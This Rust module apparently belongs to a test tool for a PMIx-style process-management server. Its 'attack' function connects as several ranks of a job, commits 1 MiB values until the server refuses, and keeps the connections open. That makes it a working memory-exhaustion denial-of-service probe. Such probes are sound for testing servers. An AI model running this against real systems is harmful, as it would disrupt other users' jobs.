//! Values that the procs of a job put, as many as the server accepts.
use super::{connection::AdmittedConnection, stay};
use crate::raw_client::hello;
use anyhow::Result;
use peal_model::{Commit, Key, Kval, Nspace, Proc, Rank, Request, Scope, Value, code};
use std::net::SocketAddr;

/// Size of one value in bytes.
const VALUE: usize = 1 << 20;

/// Puts values from this number of ranks of a job, each until the server refuses. Prints the number
/// of bytes that the server accepted, and stays.
pub fn attack(server: SocketAddr, job: &str, ranks: u32) -> Result<()> {
    let nspace = Nspace::new(job)?;
    let mut procs = Vec::new();
    let mut taken = 0;
    for rank in 0..ranks {
        let proc = Proc::new(nspace.clone(), Rank(rank));
        let mut connection = AdmittedConnection::connect(server, &hello(proc))?;
        for number in 0.. {
            let key = Key::new(&format!("parked.{number}"))?;
            let kvals = vec![Kval {
                key,
                value: Value::string(&"x".repeat(VALUE)),
            }];
            let commit = Request::Commit(vec![Commit {
                scope: Scope::Global,
                kvals,
            }]);
            if connection.ask(&commit)? != code::PMIX_SUCCESS {
                break;
            }
            taken += VALUE;
        }
        procs.push(connection);
    }
    println!("{taken}");
    stay();
    Ok(())
}
